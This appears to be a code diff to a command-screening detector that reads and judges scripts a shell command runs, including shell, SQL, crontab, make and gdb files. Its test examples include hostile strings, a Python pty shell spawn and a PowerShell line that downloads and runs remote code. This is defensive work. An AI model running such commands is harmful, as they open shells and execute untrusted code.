@@ -10,6 +10,7 @@ import re
 from typing import TYPE_CHECKING
 
 from .. import inline
+from ..context import GateContext, ScriptFile
 from ..commands import (
     CODE_FLAGS,
     SHELLS,
@@ -141,7 +142,7 @@ def _h_shell(d: Detector, name: str, args: list[str], kinds: list[Kinds], cmd: C
         d.payload(ctx, operands[0], op_kinds[0] if op_kinds else frozenset(), cmd.text, env)
         return
     if operands and not read_stdin:
-        _judge_script_file(d, operands[0], op_kinds[0] if op_kinds else frozenset(), cmd, ctx)
+        judge_script(d, operands[0], op_kinds[0] if op_kinds else frozenset(), cmd, ctx, "sh")
         return
     # the shell reads its program from stdin
     if (
@@ -173,6 +174,79 @@ def _judge_script_file(d: Detector, path: str, kinds: Kinds, cmd: Cmd, ctx: Ctx)
         d.payload(ctx, ctx.written[base_name(path)], frozenset(), cmd.text)
 
 
+_WHY_UNREAD = {
+    "missing": "does not exist in the task's backend",
+    "unreadable": "cannot be read (not a regular file, or no permission)",
+    "too_big": "is larger than the gate reads (64 KiB)",
+    "not_read": "is nested too deeply in other scripts for the gate to follow",
+}
+
+
+def judge_script(
+    d: Detector, path: str, kinds: Kinds, cmd: Cmd, ctx: Ctx, lang: str = "sh", optional: bool = False
+) -> None:
+    """A file the command runs as code: written or downloaded on the same line (judged as such), or
+    read from the task's backend by the core (``GateContext.files``) and judged as if it were inline,
+    in its language (``sh``; ``exec``: by its ``#!`` line; an interpreter's; ``sql``; ``crontab``;
+    ``make``; ``gdb``).  One the core could not read (missing, unreadable, too big) asks
+    (``script_unread``); ``optional`` ones (make's default makefiles) may be missing."""
+    _judge_script_file(d, path, kinds, cmd, ctx)
+    if kinds or base_name(path) in ctx.written or base_name(path) in ctx.downloaded or path in ctx.downloaded:
+        return
+    found = d.script_file(path, cmd)
+    if found is None:
+        return
+    if found.text is None:
+        if found.note == "binary" or (optional and found.note == "missing"):
+            return
+        why = _WHY_UNREAD.get(found.note, "could not be read")
+        d.add(ctx, "script_unread", cmd.text, f"The command runs {path}, which {why}; the gate cannot judge it.")
+        return
+    judge_text(d, lang, found.text, cmd, ctx)
+
+
+def judge_text(d: Detector, lang: str, text: str, cmd: Cmd, ctx: Ctx) -> None:
+    """Judge the text of a script in ``lang`` as if the command held it inline."""
+    if lang in ("sh", "exec"):
+        first = text.split("\n", 1)[0]
+        if first.startswith("#!"):
+            words = first[2:].split()
+            prog = base_name(words[0]) if words else "sh"
+            if prog == "env":
+                prog = base_name(next((w for w in words[1:] if not w.startswith("-") and "=" not in w), "sh"))
+            code_lang = interpreter_lang(prog)
+            if code_lang:
+                _judge_code(d, code_lang, text, frozenset(), cmd, ctx)
+                return
+            if prog not in SHELLS and lang == "exec":
+                d.add(ctx, "script_unread", cmd.text, f"The script runs under {prog}, which the gate cannot read.")
+                return
+        d.payload(ctx, text, frozenset(), cmd.text)
+    elif lang == "sql":
+        for f in inline.sql_findings(text):
+            d.add(ctx, f.rule, cmd.text, f"Destructive SQL that drops or wipes data: {f.detail[:80]}")
+    elif lang == "crontab":
+        for line in text.split("\n"):
+            line = line.strip()
+            if not line or line.startswith("#") or re.match(r"^[A-Za-z_][A-Za-z0-9_]*\s*=", line):
+                continue
+            m = re.match(r"^(?:@\w+|(?:\S+\s+){5})(.*)$", line)
+            if m:
+                d.payload(ctx, m.group(1).replace("%", "\n", 1).split("\n")[0], frozenset(), cmd.text)
+    elif lang == "make":
+        from .handoff import _makefile_recipes  # handoff builds on this module
+
+        for recipe in _makefile_recipes(text):
+            d.payload(ctx, recipe, frozenset(), cmd.text)
+    elif lang == "gdb":
+        for line in text.split("\n"):
+            m = re.match(r"\s*(?:shell\s+|!)(.*)", line)
+            if m:
+                d.payload(ctx, m.group(1), frozenset(), cmd.text)
+    else:
+        _judge_code(d, lang, text, frozenset(), cmd, ctx)
+
+
 @handles("eval", "trap")
 def _h_eval(d: Detector, name: str, args: list[str], kinds: list[Kinds], cmd: Cmd, ctx: Ctx) -> None:
     """``eval`` and ``trap``: their arguments are shell code, judged as such (unknown text asks through
@@ -193,7 +267,7 @@ def _h_source(d: Detector, name: str, args: list[str], kinds: list[Kinds], cmd: 
     if args and args[0] in ("/dev/stdin", "-", "/proc/self/fd/0", "/dev/fd/0"):
         _h_shell(d, "sh", ["-s"], [], cmd, ctx)
     elif args:
-        _judge_script_file(d, args[0], kinds[0] if kinds else frozenset(), cmd, ctx)
+        judge_script(d, args[0], kinds[0] if kinds else frozenset(), cmd, ctx, "sh")
 
 
 @handles("xargs")
@@ -314,7 +388,7 @@ def _h_interpreter(d: Detector, name: str, args: list[str], kinds: list[Kinds], 
     if module:
         return
     if file_op is not None and file_op != "-":
-        _judge_script_file(d, file_op, file_kinds, cmd, ctx)
+        judge_script(d, file_op, file_kinds, cmd, ctx, lang or "sh")
         script = base_name(file_op)
         if script in HANDLERS and script not in SHELLS:
             j = args.index(file_op) + 1 if file_op in args else len(args)
@@ -465,5 +539,23 @@ EXAMPLES: tuple[Examples, ...] = (
         "inline_code_shell",
         match=("python -c 'import pty; pty.spawn(\"/bin/bash\")'", "powershell -c \"iwr https://x | iex\""),
         no_match=("python -c 'import json; print(json.dumps({}))'",),
+    ),
+    Examples(
+        "script_unread",
+        match=("bash gone.sh", "./gone.sh", ". ./big.sh", "python3 gone.py", "make -f gone.mk", "psql -f gone.sql"),
+        no_match=("bash ok.sh", "./ok.sh", "make", "./a.out", "bash gone.sh --help"),
+        context=GateContext(
+            cwd="/w/t1", root="/w/t1", home="/w/t1",
+            files=(
+                ScriptFile("/w/t1/gone.sh", None, "missing"),
+                ScriptFile("/w/t1/gone.py", None, "missing"),
+                ScriptFile("/w/t1/gone.mk", None, "missing"),
+                ScriptFile("/w/t1/gone.sql", None, "unreadable"),
+                ScriptFile("/w/t1/big.sh", None, "too_big"),
+                ScriptFile("/w/t1/ok.sh", "echo hi\n"),
+                ScriptFile("/w/t1/a.out", None, "binary"),
+                ScriptFile("/w/t1/Makefile", None, "missing"),
+            ),
+        ),
     ),
 )
